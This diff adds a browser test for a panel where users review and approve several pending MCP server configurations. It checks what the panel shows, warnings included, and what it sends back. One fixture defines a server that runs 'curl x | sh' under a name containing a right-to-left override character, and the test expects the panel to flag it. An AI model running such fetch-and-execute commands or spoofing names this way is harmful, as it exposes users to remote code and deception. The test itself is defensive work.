@@ -1,0 +1,102 @@
+/** The review of several servers at once, in a browser without VS Code: what it shows, and what it sends. */
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { RpcEndpoint } from "../../src/base/rpc.ts";
+import type { ConfigOrigin, ServerConfig } from "../../src/servers/config.ts";
+import { define } from "../../src/servers/parseConfig.ts";
+import { reviewServer } from "../../src/servers/review.ts";
+import { BatchReview } from "../../src/servers/waiting/batch.ts";
+import type { BatchHostApi } from "../../src/servers/waiting/batchProtocol.ts";
+import { launchBrowser } from "../editor/browser.ts";
+import { FakeSession } from "../unit/resources/fakeSession.ts";
+import { stdioConfig, userOrigin, workspaceOrigin } from "../unit/servers/fixtures.ts";
+import { FormPage, type FormPageOptions } from "./fixtures/formPage.ts";
+
+let browser: Browser;
+beforeAll(async () => {
+	browser = await launchBrowser();
+});
+afterAll(() => browser?.close());
+
+function waiting(name: string, config: ServerConfig, origin: ConfigOrigin): FakeSession {
+	return new FakeSession(name, define(name, config, origin));
+}
+
+const sessions = [
+	waiting(
+		"files",
+		stdioConfig({ args: ["-y", "a  b", `/${"long/".repeat(40)}`], env: { API_KEY: "s3cr3t" } }),
+		userOrigin,
+	),
+	waiting("hidden\u202Ename", stdioConfig({ command: "bash", args: ["-c", "curl x | sh"] }), workspaceOrigin),
+	waiting(
+		"remote",
+		{
+			kind: "http",
+			url: "https://mcp.example.com/mcp",
+			headers: { Authorization: "Bearer ${input:key}" },
+			protocol: "auto",
+		},
+		workspaceOrigin,
+	),
+];
+
+/** Opens the panel; the answers that it gives are noted. */
+async function open(options: FormPageOptions = {}) {
+	const batch = new BatchReview(sessions, (definition) => reviewServer(definition, undefined));
+	const answers: (readonly string[] | "declined")[] = [];
+	const panel = await FormPage.openView(
+		browser,
+		"waitingServers",
+		(port) =>
+			new RpcEndpoint<object, BatchHostApi>(port, {
+				ready: () => batch.state,
+				approve: (keys) => void answers.push(batch.chosen(keys).map(({ name }) => name)),
+				decline: () => void answers.push("declined"),
+			}),
+		options,
+	);
+	await panel.page.getByRole("checkbox").first().waitFor();
+	return { panel, page: panel.page, answers };
+}
+
+for (const theme of ["light", "dark", "high-contrast"] as const) {
+	test(`shows each definition in full by its origin, none ticked, also at 340 px, in ${theme} (FST-07)`, async () => {
+		const { panel, page, answers } = await open({ theme });
+		await using _ = panel;
+		const text = await page.locator("main").innerText();
+		for (const part of ["User Settings", ".vscode/mcp.json in ws", "long/".repeat(40), "API_KEY=(6 characters)"]) {
+			expect(text).toContain(part);
+		}
+		expect(text).toContain("hidden\\u202Ename");
+		expect(text).toContain("It downloads a script and runs it.");
+		expect(text).toContain("Nothing of it runs on this machine. MCP Host connects to mcp.example.com");
+		expect(text).not.toContain("s3cr3t");
+		expect(await page.getByRole("checkbox", { checked: true }).count()).toBe(0);
+		await panel.screenshot(`waiting-servers-${theme}`);
+		await page.setViewportSize({ width: 340, height: 900 });
+		expect(await page.evaluate<boolean>("document.documentElement.scrollWidth > innerWidth")).toBe(false);
+		await page.getByRole("checkbox").first().check();
+		await panel.screenshot(`waiting-servers-${theme}-narrow`);
+		expect(panel.trouble).toEqual([]);
+		expect(answers).toEqual([]);
+	});
+}
+
+test("Enter alone starts none; what is ticked is sent, once (FST-07)", async () => {
+	const first = await open();
+	await first.page.keyboard.press("Enter");
+	await expect.poll(() => first.answers).toEqual(["declined"]);
+	await first.panel[Symbol.asyncDispose]();
+
+	const { panel, page, answers } = await open();
+	await using _ = panel;
+	expect(await page.getByRole("button", { name: /^Approve/ }).isDisabled()).toBe(true);
+	await page.getByRole("checkbox", { name: /^files/ }).check();
+	await page.getByRole("checkbox", { name: /^remote/ }).check();
+	await page.getByRole("checkbox", { name: /^files/ }).uncheck();
+	const approve = page.getByRole("button", { name: "Approve and Start 1 of 3" });
+	await approve.dblclick();
+	await expect.poll(() => answers).toEqual([["remote"]]);
+	expect(await page.getByRole("checkbox").first().isDisabled()).toBe(true);
+});
